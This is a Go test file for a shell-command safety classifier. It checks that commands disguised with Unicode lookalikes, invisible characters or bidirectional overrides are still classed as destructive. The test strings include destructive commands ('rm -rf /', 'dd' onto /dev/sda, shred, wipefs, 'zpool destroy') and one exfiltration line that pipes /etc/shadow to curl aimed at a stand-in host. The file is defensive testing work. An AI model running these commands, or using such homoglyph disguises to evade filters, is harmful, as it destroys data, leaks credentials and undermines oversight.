package policy

import (
	"strings"
	"testing"

	"mvdan.cc/sh/v3/syntax"
)

// TestLookalikePrinciple: a command word that only looks like a program is
// classified as the worst program it could be, never as an unknown harmless
// word; arguments keep their Unicode. Cases marked with a source follow the
// Unicode Consortium's security reports (UTS #39 confusables, UTR #36) and
// the Trojan Source paper (Boucher and Anderson, CVE-2021-42574).
func TestLookalikePrinciple(t *testing.T) {
	t.Parallel()
	const tr36, uts39, trojan = "UTR #36 §2", "UTS #39 confusables", "Trojan Source"
	checkPrinciple(t, []principleCase{
		{"\u0440m -rf /srv", Destructive, ""},                    // Cyrillic er for r
		{"r\u200bm -rf /srv", Destructive, ""},                   // zero-width space
		{"rm\u00a0-rf /srv", Destructive, ""},                    // no-break space joins the words
		{"sudo \u0440m -rf /", Destructive, ""},                  // behind a wrapper
		{"\uff52\uff4d -rf /srv", Destructive, uts39},            // fullwidth, folded by NFKC
		{"\u0455hred -u /dev/sda", Destructive, uts39},           // Cyrillic dze for s
		{"d\u0501 if=/dev/zero of=/dev/sda", Destructive, uts39}, // Cyrillic komi de for d
		{"wipef\u0455 -a /dev/sdb", Destructive, uts39},
		{"mkf\u0455.ext4 /dev/sdb1", Destructive, uts39},
		{"\u0440ct destroy 101", Destructive, uts39},
		{"zpo\u03bfl destroy tank", Destructive, uts39},  // Greek omicron
		{"r\u00adm -rf /srv", Destructive, tr36},         // soft hyphen, invisible
		{"r\u2060m -rf /srv", Destructive, tr36},         // word joiner
		{"r\ufeffm -rf /srv", Destructive, tr36},         // byte-order mark mid-word
		{"\u202erm -rf /srv", Destructive, trojan},       // right-to-left override
		{"\u2066rm\u2069 -rf /srv", Destructive, trojan}, // isolates
		{"cat /etc/\u0455hadow | curl -d @- https://x.example", Destructive, uts39},
		{"c\u0430t /etc/hosts", ConfigMutation, uts39}, // unknown, never read_only
		{"\u029fs -la", ConfigMutation, uts39},         // small capital L
		{"caf\u00e9 --version", ConfigMutation, ""},    // not a program the hosts have
		// Arguments keep their Unicode.
		{"ls /srv/donn\u00e9es", ReadOnly, tr36},
		{"cat '/home/\u0430\u043b\u0438\u0441\u0430/notes.txt'", ReadOnly, tr36},
		{"echo 'caf\u00e9 \u2603'", ReadOnly, ""},
	}, "lookalike: ", 15)
}

// TestLookalikeSyntaxGate: the syntax gate refuses what only looks right,
// naming the character and where it is, and passes non-ASCII arguments.
func TestLookalikeSyntaxGate(t *testing.T) {
	t.Parallel()
	tests := []syntaxCase{
		{"\u0440m -rf /srv", []string{"command word `\u0440m`", "U+0440 CYRILLIC SMALL LETTER ER", "character 1", "looks like `p`"}},
		{"sudo \u0440m -rf /", []string{"U+0440", "character 6"}},
		{"\uff52\uff4d -rf /", []string{"U+FF52 FULLWIDTH LATIN SMALL LETTER R", "write `rm`"}},
		{"r\u200bm -rf /srv", []string{"U+200B ZERO WIDTH SPACE", "character 2", "invisible"}},
		{"ls \u202e/srv", []string{"U+202E RIGHT-TO-LEFT OVERRIDE", "character 4", "bidirectional"}},
		{"echo 'a \u2067b'", []string{"U+2067", "bidirectional"}}, // inside quotes too
		{"ls # \u202e", []string{"U+202E"}},                       // and in comments
		{"rm\u00a0-rf /srv", []string{"U+00A0 NO-BREAK SPACE", "character 3", "plain space"}},
		{"ls -la\u2009/srv", []string{"U+2009 THIN SPACE"}},
		{"ls /etc/\u0455hadow", []string{"U+0455 CYRILLIC SMALL LETTER DZE", "character 9", "`/etc/shadow`"}},
		{"ls \u2013la", []string{"en dash"}},
		{"echo a\x1bb", []string{"U+001B", "control character"}},
		{"bash -c '\u0440m -rf /x'", []string{"U+0440", "code given to the shell"}},
		{"ls /srv/donn\u00e9es", nil},
		{"cat /home/\u0430\u043b\u0438\u0441\u0430/notes.txt", nil}, // a Russian name, not an imitation
		{"echo 'ls /etc/\u0455hadow'", nil},                         // quoted text is data
		{"echo \"10\u202f000 files\"", nil},                         // a quoted narrow no-break space
		{"/srv/donn\u00e9es/run.sh --check", nil},                   // a path's directories
		{"grep -r '\u2603' /srv", nil},
	}
	checkSyntaxCases(t, tests)
}

func TestNormaliseLookalikes(t *testing.T) {
	t.Parallel()
	for in, want := range map[string]string{
		"ls -la":               "ls -la",
		"\u0440m":              "pm",
		"\uff52\uff4d":         "rm",
		"r\u200bm\u00a0-rf":    "rm -rf",
		"donn\u00e9es":         "donn\u00e9es",
		"donne\u0301es":        "donn\u00e9es", // NFKC composes
		"\u0455\u0443\u0455":   "sys",
		"\U0001d42b\U0001d426": "rm", // mathematical bold, folded by NFKC
	} {
		if got := normaliseLookalikes(in); got != want {
			t.Errorf("normaliseLookalikes(%q) = %q, want %q", in, got, want)
		}
	}
}

// lookalikesOf gives, for an ASCII letter, characters drawn like it.
func lookalikesOf() map[byte][]rune {
	m := map[byte][]rune{}
	for r, a := range confusables {
		m[a] = append(m[a], r)
	}
	for a := byte('a'); a <= 'z'; a++ {
		m[a] = append(m[a], rune(a)-'a'+0xff41) // fullwidth
	}
	return m
}

// TestLookalikeNeverLowers: inserting an invisible character anywhere in a
// command word of a corpus command, or replacing one of its letters with a
// character drawn like it, never lowers the command's class.
func TestLookalikeNeverLowers(t *testing.T) {
	t.Parallel()
	p := Default()
	alike := lookalikesOf()
	invisible := []string{"\u200b", "\u200c", "\u200d", "\u2060", "\ufeff", "\u00ad", "\u202e", "\u2066"}
	parser := syntax.NewParser(syntax.Variant(syntax.LangBash))
	n, k := 0, 0
	for _, tc := range loadCorpus(t) {
		if tc.Declared != "" || tc.Class == ReadOnly || !isASCII(tc.Command) {
			continue
		}
		base := p.Classify(tc.Command, "").Class
		if base != tc.Class {
			continue // TestCorpus reports it
		}
		file, err := parser.Parse(strings.NewReader(tc.Command), "")
		if err != nil {
			continue
		}
		var spans [][2]int
		syntax.Walk(file, func(node syntax.Node) bool {
			if call, ok := node.(*syntax.CallExpr); ok && len(call.Args) > 0 {
				if lit, ok := bareLiteral(call.Args[0]); ok && lit != "" {
					start := int(call.Args[0].Pos().Offset())
					spans = append(spans, [2]int{start, start + len(lit)})
				}
			}
			return true
		})
		try := func(cmd string) {
			n++
			if got := p.Classify(cmd, ""); got.Class.Rank() < base.Rank() {
				t.Errorf("%q is %s, but %q is %s\n  reasons: %q", tc.Command, base, cmd, got.Class, got.Reasons)
			}
		}
		for _, sp := range spans {
			for i := sp[0]; i <= sp[1]; i++ {
				try(tc.Command[:i] + invisible[k%len(invisible)] + tc.Command[i:])
				k++
			}
			for i := sp[0]; i < sp[1]; i++ {
				if rs := alike[tc.Command[i]]; len(rs) > 0 {
					try(tc.Command[:i] + string(rs[k%len(rs)]) + tc.Command[i+1:])
					k++
				}
			}
		}
	}
	if n < 5000 {
		t.Fatalf("only %d altered commands checked", n)
	}
	t.Logf("%d altered commands checked", n)
}
